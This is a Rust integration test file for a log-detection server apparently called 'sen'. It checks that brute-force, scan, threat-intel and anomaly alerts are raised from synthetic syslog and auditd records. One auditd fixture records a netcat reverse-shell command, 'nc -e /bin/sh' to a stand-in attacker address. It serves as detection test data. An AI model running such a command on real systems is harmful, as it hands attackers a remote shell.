//! Detection inside `sen serve`, end to end: the demo province's attacks, sent over syslog,
//! come out as alerts — in the workflow store (`/api/v1/alerts`), in the alert index
//! (`/api/v1/search?index=alerts`), on the bus (metrics) — within seconds of ingest; event
//! searches do not see them; workflow changes survive a restart.

mod common;

use std::io::Write;
use std::net::TcpStream;
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Server, client};

/// Send audit records as audisp-syslog on host web01 does, over syslog TCP.
fn send_audit(srv: &Server, time: &str, records: &[&str]) {
    let mut s = TcpStream::connect(srv.tcp).unwrap();
    for r in records {
        writeln!(s, "<14>{time} web01 audispd: node=web01 {r}").unwrap();
    }
}

fn alert_titles(srv: &Server) -> Vec<String> {
    let (status, v) = srv.get("/api/v1/alerts", &[("limit", "200")]);
    assert_eq!(status, 200, "{v}");
    v["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["rule_title"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// The alert of the rule titled `title` (the workflow store's search finds it by title).
fn alert_titled(srv: &Server, title: &str) -> serde_json::Value {
    let (status, v) = srv.get("/api/v1/alerts", &[("q", title), ("limit", "50")]);
    assert_eq!(status, 200, "{v}");
    v["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["rule_title"] == title)
        .cloned()
        .unwrap_or_else(|| panic!("no `{title}` alert: {v}"))
}

#[test]
fn demo_attacks_become_alerts_within_seconds() {
    let out = Command::new(env!("CARGO_BIN_EXE_sen"))
        .args(["demo", "--hours", "1", "--seed", "11"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines.len() > 1000, "{}", lines.len());

    let dir = tempfile::tempdir().unwrap();
    let mut srv = Server::start(dir.path(), &[]);
    let mut s = TcpStream::connect(srv.tcp).unwrap();
    for l in &lines {
        s.write_all(l.as_bytes()).unwrap();
        s.write_all(b"\n").unwrap();
    }
    drop(s);
    let sent = Instant::now();

    let wanted = ["SSH Brute Force", "Web Exploitation Attempt in Request URL", "Port Scan"];
    let deadline = sent + Duration::from_secs(60);
    let mut titles = Vec::new();
    while Instant::now() < deadline {
        titles = alert_titles(&srv);
        if wanted.iter().all(|w| titles.iter().any(|t| t == w)) {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let took = sent.elapsed();
    for w in wanted {
        assert!(titles.iter().any(|t| t == w), "no `{w}` alert after {took:?}: {titles:?}");
    }
    eprintln!("demo attacks alerted {took:?} after the last line was sent ({} lines)", lines.len());
    // Includes parsing and indexing the whole hour of traffic in a debug build.
    assert!(took < Duration::from_secs(30), "{took:?}");
    for more in [
        "SSH Brute Force Followed by a Successful Login",
        "Web Scan Followed by Exploitation Attempt",
        "Password Spraying",
    ] {
        assert!(titles.iter().any(|t| t == more), "no `{more}`: {titles:?}");
    }

    // The brute force alert names the attacker and lists the matched events, which search finds.
    let brute = alert_titled(&srv, "SSH Brute Force");
    let id = brute["id"].as_str().unwrap().to_owned();
    assert_eq!(brute["entity"]["source.ip"], "198.51.100.213", "{brute}");
    assert!(brute["count"].as_u64().unwrap() >= 1);
    let first_event = brute["event_ids"][0].as_str().unwrap().to_owned();
    srv.wait_count(&format!("event.id:{first_event}"), 1, 10);

    // Alerts live in their own index: searchable there, absent from event searches.
    srv.wait_count("", lines.len() as u64, 60);
    let (status, v) =
        srv.get("/api/v1/search", &[("index", "alerts"), ("q", "rule.name:\"Port Scan\"")]);
    assert_eq!(status, 200, "{v}");
    assert!(v["total"].as_u64().unwrap() >= 1, "{v}");
    assert_eq!(srv.count("event.kind:alert"), 0);
    let (status, _) = srv.get("/api/v1/search", &[("index", "nope")]);
    assert_eq!(status, 400);

    // Published on the bus topic `alerts`.
    let metrics = client().get(srv.url("/metrics")).send().unwrap().text().unwrap();
    let published = metrics
        .lines()
        .find(|l| l.starts_with("sen_alerts_published_total"))
        .and_then(|l| l.split_whitespace().last())
        .and_then(|n| n.parse::<u64>().ok())
        .unwrap_or(0);
    assert!(published >= 3, "{published}");

    // Backtest over the index (while the server runs) finds the same attacks.
    let out = Command::new(env!("CARGO_BIN_EXE_sen"))
        .args([
            "rules",
            "backtest",
            "--json",
            "--from",
            "2000-01-01",
            "--to",
            "2100-01-01",
            "--data-dir",
        ])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let bt: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(bt["events"].as_u64(), Some(lines.len() as u64), "{bt}");
    let by_title = |t: &str| {
        bt["rules"]
            .as_object()
            .unwrap()
            .values()
            .find(|r| r["title"] == t)
            .cloned()
            .unwrap_or_default()
    };
    for w in wanted {
        let r = by_title(w);
        assert!(
            r["alerts"].as_u64().unwrap_or(0) >= 1 && r["matches"].as_u64().unwrap_or(0) >= 1,
            "{w}: {bt}"
        );
    }
    let bad = Command::new(env!("CARGO_BIN_EXE_sen"))
        .args(["rules", "backtest", "--from", "yesterday-ish", "--data-dir"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(!bad.status.success());
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("--from"),
        "{}",
        String::from_utf8_lossy(&bad.stderr)
    );

    // Workflow: acknowledge, restart, still acknowledged and still one alert per story.
    let r = client()
        .post(srv.url(&format!("/api/v1/alerts/{id}/status")))
        .header("content-type", "application/json")
        .header("x-sen-user", "lan")
        .body(r#"{"status":"acknowledged","comment":"investigating 198.51.100.213"}"#)
        .send()
        .unwrap();
    assert_eq!(r.status().as_u16(), 200, "{}", r.text().unwrap_or_default());
    let before = alert_titles(&srv).len();
    srv.stop();
    srv.spawn();
    let (_, v) = srv.get(&format!("/api/v1/alerts/{id}"), &[]);
    let status = v["alert"]["status"].as_str().or(v["status"].as_str()).map(str::to_owned);
    assert_eq!(status.as_deref(), Some("acknowledged"), "{v}");
    std::thread::sleep(Duration::from_millis(1500));
    assert_eq!(alert_titles(&srv).len(), before, "a restart must not re-raise alerts");
}

/// Threat intelligence inside `sen serve`: a CSV feed naming the demo's command-and-control
/// domain and address raises IOC alerts that name the indicator and its feed.
#[test]
fn intel_feed_matches_demo_beaconing() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("bad.csv");
    std::fs::write(
        &feed,
        "type,value,description\ndomain,update-sync.example.net,demo C2 (parent domain)\nip,192.0.2.250,demo C2 address\n",
    )
    .unwrap();
    let cfg = dir.path().join("sen.toml");
    std::fs::write(
        &cfg,
        format!(
            "version = 1\n[[intel.feeds]]\nname = \"demo-c2\"\nformat = \"csv\"\npath = {:?}\nrefresh = \"1h\"\nlevel = \"critical\"\n",
            feed.display().to_string()
        ),
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_sen"))
        .args(["demo", "--hours", "1", "--seed", "5"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let data = dir.path().join("data");
    let srv = Server::start(&data, &["--config", cfg.to_str().unwrap()]);
    let mut s = TcpStream::connect(srv.tcp).unwrap();
    s.write_all(text.as_bytes()).unwrap();
    drop(s);
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut found = None;
    while Instant::now() < deadline && found.is_none() {
        let (status, v) = srv.get("/api/v1/alerts", &[("kind", "ioc"), ("limit", "50")]);
        assert_eq!(status, 200, "{v}");
        found = v["alerts"].as_array().unwrap().first().cloned();
        std::thread::sleep(Duration::from_millis(200));
    }
    let a = found.expect("an IOC alert");
    let title = a["rule_title"].as_str().unwrap();
    assert!(title.contains("demo-c2"), "{a}");
    assert!(title.contains("update-sync.example.net") || title.contains("192.0.2.250"), "{a}");
    assert_eq!(a["severity"]["label"].as_str().or(a["severity"].as_str()), Some("critical"), "{a}");
    assert!(a["reason"].as_str().unwrap_or_default().contains("demo-c2"), "{a}");

    // Feed status and on-demand refresh.
    let (status, v) = srv.get("/api/v1/intel/feeds", &[]);
    assert_eq!(status, 200, "{v}");
    let feed = &v["feeds"][0];
    assert_eq!(feed["name"], "demo-c2", "{v}");
    assert_eq!(feed["loaded"].as_u64(), Some(2), "{v}");
    let r = client().post(srv.url("/api/v1/intel/feeds/demo-c2/refresh")).send().unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let r = client().post(srv.url("/api/v1/intel/feeds/nope/refresh")).send().unwrap();
    assert_eq!(r.status().as_u16(), 404);
}

/// Anomaly detection inside `sen serve`: once a host's logins are learned, a login by a user
/// never seen on it raises a low-severity anomaly alert that says why.
#[test]
fn anomaly_new_user_on_host() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("sen.toml");
    std::fs::write(
        &cfg,
        "version = 1\n[anomaly.first_seen]\nlearning_period = \"0s\"\nmin_events = 3\n",
    )
    .unwrap();
    let srv = Server::start(&dir.path().join("data"), &["--config", cfg.to_str().unwrap()]);
    let mut s = TcpStream::connect(srv.tcp).unwrap();
    let now = chrono::Utc::now().format("%b %e %H:%M:%S");
    let mut text = String::new();
    for i in 0..5 {
        text.push_str(&format!(
            "<38>{now} web07 sshd[{}]: Accepted publickey for alice from 10.1.2.3 port {} ssh2\n",
            100 + i,
            40000 + i
        ));
    }
    text.push_str(&format!(
        "<38>{now} web07 sshd[200]: Accepted password for mallory from 10.1.2.3 port 41000 ssh2\n"
    ));
    s.write_all(text.as_bytes()).unwrap();
    drop(s);
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut found = Vec::new();
    while Instant::now() < deadline && found.is_empty() {
        let (status, v) = srv.get("/api/v1/alerts", &[("kind", "anomaly"), ("limit", "50")]);
        assert_eq!(status, 200, "{v}");
        found = v["alerts"].as_array().unwrap().clone();
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_eq!(found.len(), 1, "{found:?}");
    let (status, _) = srv.get("/api/v1/intel/feeds", &[]);
    assert_eq!(status, 503, "no feeds configured");
    let a = &found[0];
    assert_eq!(a["severity"]["label"], "low", "{a}");
    let reason = a["reason"].as_str().unwrap_or_default();
    assert!(reason.contains("mallory") && reason.contains("alice"), "{a}");
}

/// Correlation state survives a crash exactly: the snapshot on disk is older than the index
/// (it is saved every ten seconds, the index every commit), and the restart replays the
/// records in between into it. Six failed logins, a snapshot, three more, a crash whose last
/// snapshot is the first one, then two more: eleven attempts in five minutes is a brute force
/// only if the three indexed after the snapshot are counted (six and two are eight).
#[test]
fn correlation_state_catches_up_after_a_crash() {
    let dir = tempfile::tempdir().unwrap();
    let mut srv = Server::start(dir.path(), &[]);
    let attacker = "198.51.100.77";
    let mut sent = 0u64;
    let send = |srv: &Server, n: usize, sent: &mut u64| {
        let mut s = TcpStream::connect(srv.tcp).unwrap();
        for _ in 0..n {
            *sent += 1;
            let ts = chrono::Utc::now().format("%b %e %H:%M:%S");
            let line = format!(
                "<38>{ts} bastion01 sshd[{}]: Failed password for root from {attacker} port {} ssh2\n",
                4000 + *sent,
                40000 + *sent
            );
            s.write_all(line.as_bytes()).unwrap();
        }
    };
    let brute = |srv: &Server| alert_titles(srv).iter().filter(|t| *t == "SSH Brute Force").count();
    let q = format!("source.ip:{attacker}");

    send(&srv, 6, &mut sent);
    srv.wait_count(&q, sent, 30);
    srv.stop();
    let state = dir.path().join("correlation-state.json");
    let stale = std::fs::read(&state).expect("a graceful stop saves the correlation state");
    let saved: serde_json::Value = serde_json::from_slice(&stale).unwrap();
    assert_eq!(saved["version"], 2, "{saved}");
    assert!(saved["positions"].is_object(), "the snapshot records its bus position: {saved}");

    srv.spawn();
    send(&srv, 3, &mut sent);
    srv.wait_count(&q, sent, 30);
    assert_eq!(brute(&srv), 0, "nine attempts are not a brute force");
    srv.kill9();
    // The crash came before the snapshot that includes the last three attempts.
    std::fs::write(&state, &stale).unwrap();

    srv.spawn();
    send(&srv, 2, &mut sent);
    srv.wait_count(&q, sent, 30);
    let deadline = Instant::now() + Duration::from_secs(20);
    while brute(&srv) == 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(brute(&srv), 1, "eleven attempts in five minutes: {:?}", alert_titles(&srv));
    let alert = alert_titled(&srv, "SSH Brute Force");
    assert_eq!(alert["entity"]["source.ip"], attacker, "{alert}");
    srv.stop();
}

/// The records of `arp -a` from OTRF Security-Datasets (Mordor), MIT licence:
/// datasets/atomic/linux/discovery/host/sh_arp_cache, without its PROCTITLE record (and, as
/// there, no EOE): nothing says the event is complete.
const ARP: &str = r#"type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e syscall=59 success=yes exit=0 a0=558e251634a0 a1=558e25162a50 a2=558e25160800 a3=8 items=2 ppid=29002 pid=1631 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=104 comm="arp" exe="/usr/sbin/arp" key=(null)
type=EXECVE msg=audit(1604994496.155:92733): argc=2 a0="arp" a1="-a"
type=CWD msg=audit(1604994496.155:92733): cwd="/home/wardog"
type=PATH msg=audit(1604994496.155:92733): item=0 name="/usr/sbin/arp" inode=13181 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PATH msg=audit(1604994496.155:92733): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=29514 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
"#;

/// Linux audit records inside `sen serve`: the records of one kernel event are joined into one
/// more event, on which `process_creation` rules match — over syslog at once (the records end
/// with PROCTITLE and EOE), over `sen ingest` when the partition goes quiet; the records of events still open when the
/// server stops are read again after the restart, so the joined event comes once and no record
/// twice (ADR 0011).
#[test]
fn auditd_records_are_joined_into_process_starts() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("sen.toml");
    // SigmaHQ's T1018 rule, when the corpus is there; the built-in packs hold the netcat rule.
    let rule = common::corpus()
        .map(|c| {
            c.join("sigma/rules/rules/linux/process_creation/proc_creation_lnx_remote_system_discovery.yml")
        })
        .filter(|p| p.is_file());
    let config = |idle_ms: u64| {
        let rules =
            rule.iter().map(|p| format!("{:?}", p.display().to_string())).collect::<Vec<_>>();
        format!(
            "version = 1\n[pipeline]\nauditd_join_idle_ms = {idle_ms}\n[detection]\nrules = [{}]\n",
            rules.join(", ")
        )
    };
    // First run: open events are never joined for being idle.
    std::fs::write(&cfg, config(600_000)).unwrap();
    let mut srv = Server::start(&dir.path().join("data"), &["--config", cfg.to_str().unwrap()]);

    // audisp-syslog over TCP: joined as soon as the PROCTITLE record is read.
    let netcat = [
        "type=SYSCALL msg=audit(1764129609.100:5014): arch=c000003e syscall=59 success=yes exit=0 a0=55e1 a1=55e2 a2=55e3 a3=0 items=2 ppid=4500 pid=4501 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts1 ses=7 comm=\"nc\" exe=\"/usr/bin/nc\" key=(null)",
        "type=EXECVE msg=audit(1764129609.100:5014): argc=5 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"203.0.113.5\" a4=\"4444\"",
        "type=CWD msg=audit(1764129609.100:5014): cwd=\"/tmp\"",
        "type=PROCTITLE msg=audit(1764129609.100:5014): proctitle=6E63002D65",
        "type=EOE msg=audit(1764129609.100:5014): ",
    ];
    send_audit(&srv, "Nov 26 04:00:09", &netcat);
    srv.wait_count("event.dataset:\"auditd.event\"", 1, 30);
    assert_eq!(srv.count("event.dataset:\"auditd.log\""), 5);
    assert_eq!(
        srv.count("event.dataset:\"auditd.event\" AND process.executable:\"/usr/bin/nc\" AND host.name:web01 AND process.working_directory:\"/tmp\""),
        1
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    while !alert_titles(&srv).iter().any(|t| t == "Potential Netcat Reverse Shell Execution") {
        assert!(Instant::now() < deadline, "no netcat alert: {:?}", alert_titles(&srv));
        std::thread::sleep(Duration::from_millis(100));
    }

    // `sen ingest audit.log` without PROCTITLE or EOE records: the records are indexed, their
    // event stays open (the partition has not been idle long enough) …
    let log = dir.path().join("audit.log");
    std::fs::write(&log, ARP).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_sen"))
        .args(["ingest", "--server", &format!("http://{}", srv.http)])
        .arg(&log)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    srv.wait_count("event.dataset:\"auditd.log\"", 5 + 5, 30);
    std::thread::sleep(Duration::from_millis(600));
    assert_eq!(srv.count("event.dataset:\"auditd.event\""), 1);
    // … and after a restart with a short idle time, the replayed records are joined, once.
    srv.stop();
    std::fs::write(&cfg, config(200)).unwrap();
    srv.spawn();
    srv.wait_count("event.dataset:\"auditd.event\"", 2, 30);
    std::thread::sleep(Duration::from_millis(1000));
    assert_eq!(srv.count("event.dataset:\"auditd.event\""), 2);
    assert_eq!(srv.count("event.dataset:\"auditd.log\""), 10, "no record indexed twice");
    assert_eq!(
        srv.count("event.dataset:\"auditd.event\" AND process.executable:\"/usr/sbin/arp\" AND process.command_line:\"arp -a\" AND event.type:start"),
        1
    );
    // The joiners' process table was saved at the stop: a child of `nc` (which started before
    // the restart) names its parent.
    let child = [
        "type=SYSCALL msg=audit(1764129700.200:5020): arch=c000003e syscall=59 success=yes exit=0 a0=55e1 a1=55e2 a2=55e3 a3=0 items=1 ppid=4501 pid=4600 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts1 ses=7 comm=\"sh\" exe=\"/usr/bin/dash\" key=(null)",
        "type=EXECVE msg=audit(1764129700.200:5020): argc=1 a0=\"sh\"",
        "type=PROCTITLE msg=audit(1764129700.200:5020): proctitle=7368",
        "type=EOE msg=audit(1764129700.200:5020): ",
    ];
    send_audit(&srv, "Nov 26 04:01:40", &child);
    srv.wait_count(
        "event.dataset:\"auditd.event\" AND process.executable:\"/usr/bin/dash\"",
        1,
        30,
    );
    assert_eq!(
        srv.count("process.executable:\"/usr/bin/dash\" AND process.parent.executable:\"/usr/bin/nc\" AND process.parent.command_line:\"nc -e /bin/sh 203.0.113.5 4444\""),
        1,
        "the parent started before the restart"
    );
    // Importing the file again replaces its records and its joined event (same ids): the
    // analyzer indexes 5 + 1 events, the index still holds one of each.
    let indexed = |srv: &Server| {
        let metrics = client().get(srv.url("/metrics")).send().unwrap().text().unwrap();
        metrics
            .lines()
            .find(|l| l.starts_with("sen_analyzer_events_total"))
            .and_then(|l| l.split_whitespace().last())
            .and_then(|n| n.parse::<u64>().ok())
            .unwrap_or(0)
    };
    let before = indexed(&srv);
    let out = Command::new(env!("CARGO_BIN_EXE_sen"))
        .args(["ingest", "--server", &format!("http://{}", srv.http)])
        .arg(&log)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let deadline = Instant::now() + Duration::from_secs(30);
    while indexed(&srv) < before + 6 {
        assert!(Instant::now() < deadline, "re-import not indexed: {}", indexed(&srv) - before);
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(srv.count("event.dataset:\"auditd.log\""), 10 + 4);
    assert_eq!(srv.count("event.dataset:\"auditd.event\""), 3);
    if rule.is_some() {
        let deadline = Instant::now() + Duration::from_secs(30);
        while !alert_titles(&srv).iter().any(|t| t == "Linux Remote System Discovery") {
            assert!(Instant::now() < deadline, "no T1018 alert: {:?}", alert_titles(&srv));
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}
